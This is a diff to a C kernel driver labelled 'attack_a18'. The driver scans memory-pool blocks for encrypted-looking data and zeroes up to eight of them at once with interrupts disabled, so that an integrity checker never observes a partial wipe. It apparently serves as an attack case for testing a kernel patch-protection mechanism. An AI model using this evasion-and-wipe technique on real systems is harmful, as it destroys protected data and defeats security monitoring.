@@ -35,9 +35,12 @@ static bool looks_random(const uint8_t *p, uint64_t n)
 	return distinct >= RANDOM_DISTINCT;
 }
 
+#define MAX_VICTIMS 8
+
 status_t driver_entry(struct driver_object *drv)
 {
-	unsigned wiped = 0;
+	struct block *victim[MAX_VICTIMS];
+	unsigned found = 0;
 	uint64_t ram = 0;
 	while (a_mapped(KPP_DIRECT_MAP_BASE + ram))
 		ram += LARGE_PAGE;
@@ -52,18 +55,22 @@ status_t driver_entry(struct driver_object *drv)
 			if ((k->magic != POOL_MAGIC_USED && k->magic != POOL_MAGIC_FREE) || k->size > ARENA_BYTES ||
 			    (k->size & 15))
 				break;
-			if (k->magic == POOL_MAGIC_USED && k->size >= MIN_BLOCK && looks_random((const uint8_t *)(k + 1), k->size)) {
-				memset(k + 1, 0, k->size);
-				wiped++;
-			}
+			if (k->magic == POOL_MAGIC_USED && k->size >= MIN_BLOCK && found < MAX_VICTIMS &&
+			    looks_random((const uint8_t *)(k + 1), k->size))
+				victim[found++] = k;
 			off += sizeof *k + k->size;
 		}
 	}
-	if (!wiped) {
+	if (!found) {
 		printk("attack_a18: no encrypted-looking pool block found\n");
 		return KPP_STATUS_UNSUCCESSFUL;
 	}
-	printk("attack_a18: scanned pool, wiped %u encrypted-looking block(s)\n", wiped);
+	printk("attack_a18: scanned pool, wiping %u encrypted-looking block(s)\n", found);
+	/* All at once, so no pass sees half of it. */
+	uint64_t f = a_cli();
+	for (unsigned i = 0; i < found; i++)
+		memset(victim[i] + 1, 0, victim[i]->size);
+	a_restore(f);
 	a_patched("attack_a18");
 	return KPP_STATUS_SUCCESS;
 }
